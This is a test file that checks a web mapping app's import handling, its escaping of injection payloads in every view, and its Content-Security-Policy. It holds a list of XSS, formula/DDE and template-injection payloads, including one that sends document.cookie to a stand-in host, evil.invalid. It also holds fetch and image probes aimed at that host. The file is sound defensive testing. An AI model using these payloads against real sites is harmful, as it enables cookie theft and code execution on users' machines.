// End-to-end cases of issue 9 (scale, reliability, security) on the built app:
// 1. the bad-input corpus (test/corpus/expected.json) through the import dialog: every file gives the message the
//    manifest says (file, feature or line, problem), what can be added is added, and the sample park keeps every layer
//    (the runner forgets the autosaved working copy these imports leave, before the next case);
//    the 200 MB GeoJSON is refused from its size with the page's heap unchanged;
// 2. a layer whose every string is an injection payload, shown in the tooltip, inspector, table, legend, dashboard,
//    review panel (with a notice), presentation and the problem list: all as text, nothing executes or loads;
// 3. the Content-Security-Policy: the app runs clean under it, inline script and eval are blocked, fetches and images
//    to hosts outside the policy are blocked, and a base map on a new host applies after a reload.
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { writeBigGeoJson } from '../../corpus/bigGeoJson.mjs';

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '../../..');
const CORPUS = join(ROOT, 'test/corpus');
const FILES = join(CORPUS, 'files');
const SHOTS = join(ROOT, 'test-results/e2e');
const DIALOG = '[data-testid="import-dialog"]';
const VIEWPORT = { width: 1440, height: 900 };

/** Records CSP violations and elements with event-handler attributes from the first script on (not subject to CSP). */
const WATCH = () => {
  window.__cspViolations = [];
  document.addEventListener('securitypolicyviolation', (e) => window.__cspViolations.push({ directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample }));
  window.__injected = [];
  new MutationObserver((records) => {
    for (const r of records) {
      for (const n of r.addedNodes) {
        if (n.nodeType !== 1) continue;
        for (const el of [n, ...n.querySelectorAll('*')]) {
          const handler = [...el.attributes].find((a) => /^on/i.test(a.name) || (/^(src|href|action|formaction)$/i.test(a.name) && /^\s*javascript:/i.test(a.value)));
          if (handler || (el.tagName === 'SCRIPT' && !el.src) || (el.tagName === 'IMG' && el.getAttribute('src') === 'x')) window.__injected.push(`${el.tagName} ${handler ? `${handler.name}=${handler.value}` : ''}`.slice(0, 120));
        }
      }
    }
  }).observe(document, { childList: true, subtree: true });
};

export function register({ test, openPage, waitReady, assert, assertClean, summary }) {
  async function openApp(ctx, url) {
    const { page, seen } = await openPage(ctx);
    await page.addInitScript(WATCH);
    await page.setViewportSize(VIEWPORT);
    await page.goto(url, { waitUntil: 'domcontentloaded' });
    await waitReady(page);
    return { page, seen };
  }
  const violations = (page) => page.evaluate(() => window.__cspViolations);
  const dismissMessages = async (page) => {
    const close = page.locator('[data-testid="load-errors"] .errors-close');
    if (await close.count()) await close.click();
  };
  /** Every layer the page started with is still there with all its features. */
  async function assertKept(page, start, after) {
    const now = await summary(page);
    for (const s of start) {
      const l = now.find((x) => x.id === s.id);
      assert(l && l.featureCount === s.featureCount, `after ${after}: layer ${s.id} (${s.featureCount} features) is ${l ? `down to ${l.featureCount}` : 'gone'}`);
    }
  }
  const jsHeapMb = async (cdp) => {
    await cdp.send('HeapProfiler.collectGarbage');
    const { metrics } = await cdp.send('Performance.getMetrics');
    return metrics.find((m) => m.name === 'JSHeapUsedSize').value / 1024 / 1024;
  };

  // ------------------------------------------------------------------ 1. the corpus

  test('corpus: every bad file through the import dialog says what is wrong where, and the sample park keeps its layers', async ({ ctx, app }) => {
    const manifest = JSON.parse(readFileSync(join(CORPUS, 'expected.json'), 'utf8'));
    const entries = Object.entries(manifest.files);
    const tmp = mkdtempSync(join(tmpdir(), 'park-atlas-corpus-e2e-'));
    try {
      const bigPath = join(tmp, 'big-200mb.geojson');
      await writeBigGeoJson(bigPath, 200 * 1024 * 1024);
      const { page, seen } = await openApp(ctx, `${app}?lang=en`);
      const cdp = await ctx.newCDPSession(page);
      await cdp.send('Performance.enable');
      const start = await summary(page);
      assert(start.length > 0, 'the sample park did not load');
      const failures = [];
      let added = 0;
      let heapNote = '';
      for (const [name, entry] of entries) {
        const a = entry.app;
        const problems = [];
        const fail = (msg) => problems.push(msg);
        try {
          await dismissMessages(page);
          const paths = entry.generated ? [bigPath] : a.files === 'folder' ? readdirSync(join(FILES, dirname(name))).map((n) => join(FILES, dirname(name), n)) : [join(FILES, name)];
          const before = (await summary(page)).length;
          const heapBefore = entry.generated ? await jsHeapMb(cdp) : 0;
          const t0 = Date.now();
          await page.locator('[data-testid="import-input"]').setInputFiles(paths);
          await page.waitForSelector(`${DIALOG}[data-ready="true"]`, { timeout: 30_000 });
          if (entry.generated) {
            const grew = (await jsHeapMb(cdp)) - heapBefore;
            heapNote = `200 MB file refused in ${Date.now() - t0} ms, JS heap +${grew.toFixed(1)} MB`;
            if (grew > 50) fail(`JS heap grew by ${grew.toFixed(0)} MB for a file that should not be read`);
          }
          const dialogText = await page.locator(DIALOG).innerText();
          const attr = (tid, n) => page.locator(`${DIALOG} [data-testid="${tid}"]`).first().getAttribute(n);
          if (a.encoding && (await attr('import-encoding', 'data-encoding')) !== a.encoding) fail(`encoding ${await attr('import-encoding', 'data-encoding')}, expected ${a.encoding}`);
          if (a.crs && (await attr('import-crs', 'data-status')) !== a.crs) fail(`crs ${await attr('import-crs', 'data-status')}, expected ${a.crs}`);
          if (a.zone && (await attr('import-crs', 'data-zone')) !== a.zone) fail(`zone ${await attr('import-crs', 'data-zone')}, expected ${a.zone}`);
          for (const s of a.dialogIncludes ?? []) if (!dialogText.includes(s)) fail(`the dialog does not say ${JSON.stringify(s)}`);
          const texts = await page.locator(`${DIALOG} [data-testid="import-problem"], ${DIALOG} [data-testid="import-blocked"]`).allInnerTexts();
          // Confirm every step that can be confirmed (a zip may hold several layers); cancel the rest.
          let confirmed = false;
          for (let step = 0; step < 5 && (await page.locator(DIALOG).count()) > 0; step++) {
            const confirm = page.locator('[data-testid="import-confirm"]');
            // The dialog may close between the two looks: never wait for a button that is gone.
            if ((await confirm.count()) === 0 || !(await confirm.isEnabled({ timeout: 2_000 }).catch(() => false))) break;
            const stepText = (await page.locator('[data-testid="import-step"]').count()) > 0 ? await page.locator('[data-testid="import-step"]').textContent() : null;
            await confirm.click();
            confirmed = true;
            await page.waitForFunction(({ sel, prev }) => {
              const d = document.querySelector(sel);
              return !d || (d.dataset.ready === 'true' && (document.querySelector('[data-testid="import-step"]')?.textContent ?? null) !== prev);
            }, { sel: DIALOG, prev: stepText }, { timeout: 30_000 });
            if ((await page.locator(DIALOG).count()) > 0) texts.push(...(await page.locator(`${DIALOG} [data-testid="import-problem"], ${DIALOG} [data-testid="import-blocked"]`).allInnerTexts()));
          }
          while ((await page.locator(DIALOG).count()) > 0) {
            await page.locator('[data-testid="import-skip"]').click();
            await page.waitForTimeout(50);
          }
          if (confirmed) {
            await page.waitForFunction((n) => window.__parkAtlas.layerSummary().length > n, before, { timeout: 20_000 });
            await waitReady(page);
            added++;
          }
          texts.push(...(await page.locator('[data-testid="load-errors"] li').allInnerTexts()));
          const all = texts.join('\n');
          if (confirmed !== a.added) fail(confirmed ? 'was added, but the manifest says it cannot be' : 'could not be added, but the manifest says it can');
          if (!a.added && texts.length === 0) fail('refused without a message');
          for (const s of a.messageIncludes) if (!all.includes(s)) fail(`no message includes ${JSON.stringify(s)}`);
          if (a.idleSince) {
            const ids = Object.keys(a.idleSince);
            await page.waitForFunction((want) => want.every((id) => window.__parkAtlas.evaluation()?.parcels.some((p) => p.id === id)), ids, { timeout: 20_000 });
            const got = await page.evaluate((want) => Object.fromEntries(want.map((id) => [id, window.__parkAtlas.evaluation().parcels.find((p) => p.id === id).idle.since])), ids);
            for (const id of ids) if (got[id] !== a.idleSince[id]) fail(`${id}: idle since ${got[id]}, expected ${a.idleSince[id]}`);
          }
          if (problems.length > 0) problems.push(`messages shown:\n        ${all.split('\n').slice(0, 12).join('\n        ')}`);
          await assertKept(page, start, name);
        } catch (e) {
          problems.push(String(e?.message ?? e).split('\n')[0]);
          await page.screenshot({ path: join(SHOTS, 'corpus-failure.png') }).catch(() => {});
          while ((await page.locator(DIALOG).count()) > 0) await page.locator('[data-testid="import-skip"]').click().catch(() => page.keyboard.press('Escape'));
        }
        if (problems.length > 0) failures.push(`${name}: ${problems.join('; ')}`);
      }
      await dismissMessages(page);
      await page.screenshot({ path: join(SHOTS, 'corpus-after.png') });
      await assertKept(page, start, 'the whole corpus');
      const v = await violations(page);
      assert(v.length === 0, `CSP violations during the corpus: ${JSON.stringify(v.slice(0, 5))}`);
      assert(failures.length === 0, `${failures.length} of ${entries.length} corpus files:\n      ${failures.join('\n      ')}`);
      assertClean(seen);
      return `${entries.length} files; ${added} added, ${entries.length - added} refused with a message; ${start.length} sample layers kept; ${heapNote}`;
    } finally {
      rmSync(tmp, { recursive: true, force: true });
    }
  });

  // ------------------------------------------------------------------ 2. injection

  const PAYLOADS = [
    '<img src=x onerror="window.__xss=1;fetch(\'http://evil.invalid/\'+document.cookie)">',
    '<script>window.__xss=2</script>',
    'javascript:window.__xss=3',
    '"}); window.__xss=4; alert(1); //',
    '=HYPERLINK("http://evil.invalid/?"&A1,"open")',
    '<svg onload=window.__xss=5>',
    '</textarea></title><img src=x onerror=window.__xss=6>',
    '<a href="javascript:window.__xss=7">地块</a>',
    "{{constructor.constructor('window.__xss=8')()}}",
    '+SUM(1+1)*cmd|\' /C calc\'!A0',
  ];
  const sq = (x, y, w, h) => [[[x, y], [x + w, y], [x + w, y + h], [x, y + h], [x, y]]];
  /** A park and two parcels whose every string (ids, names, property names, values, layer title) is a payload. */
  function hostileLayers() {
    const P = PAYLOADS;
    const extra = Object.fromEntries(P.map((p, i) => [p, P[(i + 3) % P.length]]));
    const park = { type: 'FeatureCollection', kind: 'park', name: P[5], features: [{ type: 'Feature', id: P[6], properties: { id: P[6], name: P[0], parkClass: 'central', leadingIndustries: [P[1], P[2]], ...extra }, geometry: { type: 'Polygon', coordinates: sq(114.0, 32.99, 0.03, 0.03) } }] };
    const parcel = (id, x, more) => ({ type: 'Feature', id, properties: { id, name: P[1], enterprise: P[0], industry: P[4], landUse: 'industrial', investmentWan: 1000, floorAreaM2: 5000, landPriceWan: 300, agreedStartDate: '2018-01-01', park: P[6], ...extra, ...more }, geometry: { type: 'Polygon', coordinates: sq(x, 33.0, 0.004, 0.003) } });
    const parcels = { type: 'FeatureCollection', kind: 'parcel', name: P[7], features: [parcel(P[3], 114.005, {}), parcel(P[8], 114.015, { landUse: P[2], enterprise: P[9] })] };
    return { park, parcels };
  }

  test('corpus: every string an injection payload — shown as text everywhere, nothing runs, nothing loads', async ({ ctx, app, fixtures }) => {
    const { park, parcels } = hostileLayers();
    // Served as a user's layer server would, under names that are payloads too (the layer title is the file name).
    const parkUrl = `${fixtures}xss-park.geojson`;
    const parcelUrl = `${fixtures}xss-${encodeURIComponent(PAYLOADS[0])}.geojson`;
    const { page, seen } = await openPage(ctx);
    await page.addInitScript(WATCH);
    await page.setViewportSize(VIEWPORT);
    await page.route((url) => url.href.startsWith(`${fixtures}xss-`), (route) => {
      const body = route.request().url().startsWith(parkUrl) ? park : parcels;
      return route.fulfill({ status: 200, headers: { 'Content-Type': 'application/geo+json', 'Access-Control-Allow-Origin': '*' }, body: JSON.stringify(body) });
    });
    await page.goto(`${app}?lang=en&layers=${encodeURIComponent(parkUrl)},${encodeURIComponent(parcelUrl)}`, { waitUntil: 'domcontentloaded' });
    await waitReady(page);
    const layers = await summary(page);
    assert(layers.length === 2 && layers.some((l) => l.kind === 'parcel' && l.featureCount === 2), `hostile layers drawn: ${JSON.stringify(layers)}`);
    const parcelLayer = layers.find((l) => l.kind === 'parcel');
    const seenIn = [];
    const textHas = async (where, locator, strings) => {
      const t = await locator.innerText();
      const missing = strings.filter((s) => !t.includes(s));
      assert(missing.length === 0, `${where} does not show ${JSON.stringify(missing)} as text: ${JSON.stringify(t.slice(0, 400))}`);
      seenIn.push(where);
    };
    const noInjection = async (where) => {
      await page.waitForTimeout(200);
      const state = await page.evaluate(() => ({ flag: window.__xss, injected: window.__injected, v: window.__cspViolations, imgs: document.querySelectorAll('img[src="x"], script:not([src]), svg[onload], [onerror], [onload]').length }));
      assert(state.flag === undefined, `${where}: window.__xss = ${state.flag}`);
      assert(state.injected.length === 0 && state.imgs === 0, `${where}: elements made from data: ${JSON.stringify(state.injected)} (${state.imgs} in the DOM)`);
      assert(state.v.length === 0, `${where}: CSP violations ${JSON.stringify(state.v)}`);
      assert(seen.dialogs.length === 0, `${where}: dialogs ${JSON.stringify(seen.dialogs)}`);
      assert(seen.outside.length === 0, `${where}: requests left 127.0.0.1: ${JSON.stringify(seen.outside)}`);
    };

    // Problem list: the land use that is a payload is named in a warning, as text.
    await textHas('the problem list', page.locator('[data-testid="load-errors"]'), [PAYLOADS[2], PAYLOADS[8]]);
    // Layer panel and legend: the layer titles (file names) and park name.
    await textHas('the layer panel', page.locator('[data-testid="layer-panel"]'), [`xss-${PAYLOADS[0]}.geojson`]);
    await textHas('the header', page.locator('[data-testid="park-name"]'), [PAYLOADS[0]]);
    await noInjection('after loading');

    // Tooltip: hover the first parcel.
    const [x, y] = await page.evaluate(() => window.__parkAtlas.project([114.007, 33.0015]));
    const box = await page.locator('[data-testid="map"]').boundingBox();
    await page.mouse.move(box.x + x - 10, box.y + y - 10);
    await page.mouse.move(box.x + x, box.y + y, { steps: 4 });
    await page.locator('[data-testid="tooltip-id"]').waitFor({ state: 'visible', timeout: 10_000 });
    assert((await page.locator('[data-testid="tooltip-id"]').textContent()) === PAYLOADS[3], 'tooltip id is not the payload as text');
    assert((await page.locator('[data-testid="tooltip-name"]').textContent()) === PAYLOADS[1], 'tooltip name is not the payload as text');
    seenIn.push('the tooltip');
    await noInjection('tooltip');

    // Attribute table, then the inspector through a row.
    const toggleTable = page.locator('[data-testid="toggle-table"]');
    if ((await toggleTable.getAttribute('aria-pressed')) !== 'true') await toggleTable.click();
    // The layer id holds the payload file name: getByTestId quotes it safely, where a CSS selector would break.
    await page.getByTestId(`table-tab-${parcelLayer.id}`).click();
    await page.locator('[data-testid="table-row"]').first().waitFor({ timeout: 10_000 });
    const rowIds = await page.locator('[data-testid="table-row"]').evaluateAll((rows) => rows.map((r) => r.dataset.id));
    assert(rowIds.includes(PAYLOADS[3]) && rowIds.includes(PAYLOADS[8]), `table row ids: ${JSON.stringify(rowIds)}`);
    await textHas('the attribute table', page.locator('[data-testid="table-row"]').nth(rowIds.indexOf(PAYLOADS[3])), [PAYLOADS[3], PAYLOADS[0]]);
    await noInjection('table');
    await page.locator('[data-testid="table-row"]').nth(rowIds.indexOf(PAYLOADS[3])).click();
    const inspector = page.locator('[data-testid="inspector"]');
    await inspector.waitFor({ timeout: 10_000 });
    assert((await inspector.getAttribute('data-feature-id')) === PAYLOADS[3], 'inspector opened another feature');
    // Every property name and value of the feature, as text.
    await textHas('the inspector', inspector, PAYLOADS);
    await page.screenshot({ path: join(SHOTS, 'corpus-xss-inspector.png') });
    await noInjection('inspector');

    // Dashboard.
    await page.locator('[data-testid="toggle-dashboard"]').click();
    const dashboard = page.locator('[data-testid="dashboard"]');
    await dashboard.waitFor({ timeout: 10_000 });
    await textHas('the dashboard', dashboard, [PAYLOADS[0]]);
    await page.screenshot({ path: join(SHOTS, 'corpus-xss-dashboard.png') });
    await noInjection('dashboard');
    await page.locator('[data-testid="dashboard-close"]').click();

    // Review panel: both parcels are idle (agreed 2018, never started); a case and its notice.
    await page.locator('[data-testid="tab-review"]').click();
    await page.locator('[data-testid="review-panel"][data-ready="true"]').waitFor({ timeout: 15_000 });
    // The selected parcel opens as a case: its queue is one step back.
    if ((await page.locator('[data-testid="review-back"]').count()) > 0) await page.locator('[data-testid="review-back"]').click();
    await page.locator('[data-testid="review-item"]').first().waitFor({ timeout: 10_000 });
    const items = await page.locator('[data-testid="review-item"]').evaluateAll((els) => els.map((e) => e.dataset.parcelId));
    assert(items.includes(PAYLOADS[3]) && items.includes(PAYLOADS[8]), `review queue: ${JSON.stringify(items)}`);
    await textHas('the review queue', page.locator('[data-testid="review-panel"]'), [PAYLOADS[3], PAYLOADS[0]]);
    await page.locator('[data-testid="review-item"]').nth(items.indexOf(PAYLOADS[3])).click();
    await page.locator('[data-testid="review-case"]').waitFor({ timeout: 5000 });
    await textHas('the review case', page.locator('[data-testid="review-case"]'), [PAYLOADS[3], PAYLOADS[1], PAYLOADS[0]]);
    await page.screenshot({ path: join(SHOTS, 'corpus-xss-review.png') });
    await noInjection('review panel');
    await page.locator('[data-testid="notice-determination"]').click();
    await page.locator('[data-testid="notice-dialog"]').waitFor({ timeout: 5000 });
    const notice = await page.frameLocator('[data-testid="notice-frame"]').locator('body').innerText();
    assert(notice.includes(PAYLOADS[0]) && notice.includes(PAYLOADS[3]), `the notice does not show the payloads as text: ${notice.slice(0, 300)}`);
    const frameInjected = await page.frameLocator('[data-testid="notice-frame"]').locator('img, script, svg, [onerror], [onload]').count();
    assert(frameInjected === 0, `${frameInjected} elements made from data in the notice`);
    const srcdoc = await page.locator('[data-testid="notice-frame"]').getAttribute('srcdoc');
    assert(!/<(script|img|svg|iframe|object)\b/i.test(srcdoc) && srcdoc.includes('&lt;img src=x'), 'the notice HTML holds markup from the data');
    // The sandboxed notice frame (no allow-scripts) refuses the test's own init script (WATCH): that refusal is logged.
    seen.errors = seen.errors.filter((e) => !/Blocked script execution in 'about:srcdoc' because the document's frame is sandboxed/.test(e));
    seenIn.push('the notice');
    await noInjection('notice');
    await page.locator('[data-testid="notice-close"]').click();

    // Presentation mode: every slide of the default deck.
    await page.locator('[data-testid="present-start"]').click();
    const present = page.locator('[data-testid="presentation"]');
    await page.waitForSelector('[data-testid="presentation"][data-slide-ready="true"]', { timeout: 60_000, state: 'attached' });
    const slides = Number(await present.getAttribute('data-slide-count'));
    const slideTexts = [];
    for (let n = 1; n <= slides; n++) {
      await page.waitForSelector(`[data-testid="presentation"][data-slide="${n}"][data-slide-ready="true"]`, { timeout: 30_000, state: 'attached' });
      slideTexts.push(await present.innerText());
      if (n < slides) await page.keyboard.press('ArrowRight');
    }
    assert(slideTexts.some((t) => t.includes(PAYLOADS[0])), 'no slide shows the park name payload as text');
    seenIn.push(`${slides} slides`);
    await page.screenshot({ path: join(SHOTS, 'corpus-xss-present.png') });
    await noInjection('presentation');
    await page.keyboard.press('Escape');
    await present.waitFor({ state: 'detached', timeout: 10_000 });

    // The same file through the import dialog, under a payload file name.
    const tmp = mkdtempSync(join(tmpdir(), 'park-atlas-xss-'));
    try {
      const file = join(tmp, `${PAYLOADS[5].replace(/\//g, '')}.geojson`);
      writeFileSync(file, JSON.stringify(parcels));
      await page.locator('[data-testid="import-input"]').setInputFiles(file);
      await page.waitForSelector(`${DIALOG}[data-ready="true"]`, { timeout: 20_000 });
      await textHas('the import dialog', page.locator(DIALOG), [PAYLOADS[5], PAYLOADS[0]]);
      await noInjection('import dialog');
      await page.locator('[data-testid="import-confirm"]').click();
      await page.waitForSelector(DIALOG, { state: 'detached', timeout: 20_000 });
      await waitReady(page);
      await noInjection('imported');
    } finally {
      rmSync(tmp, { recursive: true, force: true });
    }
    const flag = await page.evaluate(() => window.__xss);
    assert(flag === undefined, `window.__xss = ${flag}`);
    assertClean(seen);
    return `payloads shown as text in ${seenIn.join(', ')}; no script ran, no element made from data, no request, no dialog`;
  });

  // ------------------------------------------------------------------ 3. Content-Security-Policy

  test('corpus: CSP — the app runs clean under it, inline script and eval are blocked, a base map on a new host applies after reload', async ({ ctx, app, fixtures }) => {
    const { page, seen } = await openApp(ctx, `${app}?lang=en`);
    const cleanup = () => page.evaluate(() => localStorage.removeItem('parkAtlas.baseMap')).catch(() => {});
    try {
      const policies = await page.evaluate(() => [...document.querySelectorAll('meta[http-equiv="Content-Security-Policy"]')].map((m) => m.content));
      assert(policies.length === 2, `expected the static and the runtime policy, found ${JSON.stringify(policies)}`);
      assert(/script-src 'self'(;|$)/.test(policies[0]) && /object-src 'none'/.test(policies[0]) && /base-uri 'self'/.test(policies[0]) && /worker-src 'self' blob:/.test(policies[0]), `static policy: ${policies[0]}`);
      assert(!/unsafe-eval|unsafe-inline/.test(policies[0].match(/script-src[^;]*/)[0]), 'script-src allows inline or eval');
      const appOrigin = new URL(app).origin;
      assert(policies[1] === `connect-src 'self' http://127.0.0.1:* data: blob:; img-src 'self' http://127.0.0.1:* data: blob:`, `runtime policy: ${policies[1]} (app at ${appOrigin})`);

      // The app under the policy: table, dashboard, an import (the import worker), a chart; no violation.
      await page.locator('[data-testid="toggle-dashboard"]').click();
      await page.locator('[data-testid="dashboard"]').waitFor({ timeout: 10_000 });
      await page.waitForTimeout(500);
      await page.locator('[data-testid="import-input"]').setInputFiles(join(FILES, 'unclosed-ring.geojson'));
      await page.waitForSelector(`${DIALOG}[data-ready="true"]`, { timeout: 20_000 });
      await page.locator('[data-testid="import-skip"]').click();
      let v = await violations(page);
      assert(v.length === 0, `violations while using the app: ${JSON.stringify(v)}`);

      // Inline script, eval, new Function and string timers are blocked. Code that page.evaluate runs is exempt from
      // the eval check (DevTools), so eval is tried by a script of the app's own origin, served here.
      await page.route(`${app}__csp-probe.js`, (route) => route.fulfill({
        status: 200,
        headers: { 'Content-Type': 'text/javascript' },
        body: `const tryRun = (f) => { try { f(); return 'ran'; } catch (e) { return e.name; } };
          window.__probe = { evalResult: tryRun(() => eval('window.__eval = 1')), fnResult: tryRun(() => new Function('window.__fn = 1')()) };
          setTimeout('window.__timer = 1', 0);`,
      }));
      const blocked = await page.evaluate(async (src) => {
        const probe = document.createElement('script');
        probe.src = src;
        const loaded = new Promise((r) => { probe.onload = r; probe.onerror = r; });
        document.body.appendChild(probe);
        await loaded;
        const { evalResult, fnResult } = window.__probe ?? {};
        const s = document.createElement('script');
        s.textContent = 'window.__inline = 1';
        document.body.appendChild(s);
        const handler = document.createElement('div');
        handler.setAttribute('onclick', 'window.__attr = 1');
        document.body.appendChild(handler);
        handler.click();
        await new Promise((r) => setTimeout(r, 100));
        handler.remove();
        return { inline: window.__inline, evalResult, fnResult, timer: window.__timer, attr: window.__attr, eval: window.__eval, fn: window.__fn };
      }, `${app}__csp-probe.js`);
      assert(blocked.inline === undefined && blocked.timer === undefined && blocked.attr === undefined, `inline code ran: ${JSON.stringify(blocked)}`);
      assert(blocked.evalResult === 'EvalError' && blocked.fnResult === 'EvalError' && blocked.eval === undefined && blocked.fn === undefined, `eval not blocked: ${JSON.stringify(blocked)}`);
      v = await violations(page);
      const kinds = new Set(v.map((x) => `${x.directive}:${x.blocked}`));
      for (const k of ['script-src-elem:inline', 'script-src:eval', 'script-src-attr:inline']) assert(kinds.has(k), `no ${k} violation reported: ${JSON.stringify(v)}`);

      // A fetch and an image to a host outside the policy are refused before any request.
      const outside = await page.evaluate(async () => {
        const before = window.__cspViolations.length;
        let fetched;
        try { fetched = (await fetch('http://evil.invalid/leak?d=1')).status; } catch (e) { fetched = e.name; }
        const img = new Image();
        img.src = 'http://evil.invalid/pixel.png';
        await new Promise((r) => setTimeout(r, 200));
        return { fetched, added: window.__cspViolations.slice(before).map((x) => `${x.directive}:${x.blocked}`) };
      });
      assert(outside.fetched === 'TypeError' && outside.added.some((x) => x.startsWith('connect-src:http://evil.invalid')) && outside.added.some((x) => x.startsWith('img-src:http://evil.invalid')), `outside host not blocked: ${JSON.stringify(outside)}`);
      seen.outside = seen.outside.filter((u) => !u.startsWith('http://evil.invalid/'));
      // What the browser printed about the blocks it was asked to make is the case under test.
      seen.errors = seen.errors.filter((e) => !/Content Security Policy|evil\.invalid|Refused to|EvalError|unsafe-eval/.test(e));

      // A base map on another host (localhost, not 127.0.0.1): saved, applied after a reload, then its tiles load.
      const tileHost = fixtures.replace('127.0.0.1', 'localhost');
      const requested = [];
      page.on('request', (r) => r.url().startsWith(`${tileHost}tile`) && requested.push(r.url()));
      await page.locator('[data-testid="basemap-button"]').click();
      await page.locator('[data-testid="basemap-url"]').fill(`${tileHost}tile-{z}-{x}-{y}.png`);
      await page.locator('[data-testid="basemap-apply"]').click();
      await page.locator('[data-testid="basemap-reload-note"]').waitFor({ timeout: 5000 });
      await page.waitForTimeout(800);
      assert(requested.length === 0, `tiles requested before the reload: ${requested.length}`);
      await Promise.all([page.waitForNavigation({ waitUntil: 'domcontentloaded' }), page.locator('[data-testid="basemap-reload"]').click()]);
      // A base map whose tiles all fail (the fixture server answers 404) keeps the map from settling: wait for the app.
      await page.waitForFunction(() => window.__parkAtlas?.mapState()?.baseMap, null, { timeout: 60_000 });
      await page.waitForTimeout(1500);
      assert(requested.length > 0, 'no tile requested from the base map after the reload');
      const after = await page.evaluate(() => ({ policy: document.querySelector('meta[data-runtime-policy]').content, v: window.__cspViolations, baseMap: window.__parkAtlas.mapState().baseMap }));
      assert(after.policy.includes(new URL(tileHost).origin), `runtime policy after reload: ${after.policy}`);
      assert(after.v.length === 0, `violations after the reload: ${JSON.stringify(after.v)}`);
      assert(after.baseMap?.startsWith(tileHost), `base map after the reload: ${after.baseMap}`);
      await page.locator('[data-testid="basemap-button"]').click();
      await page.locator('[data-testid="basemap-clear"]').click();
      seen.errors = seen.errors.filter((e) => !/404|Failed to load resource|tile/i.test(e));
      assertClean(seen);
      return `2 policies; blocked: ${[...kinds].join(', ')}, fetch/img to evil.invalid; base map on ${new URL(tileHost).host}: ${requested.length} tile requests after reload`;
    } finally {
      await cleanup();
    }
  });
}
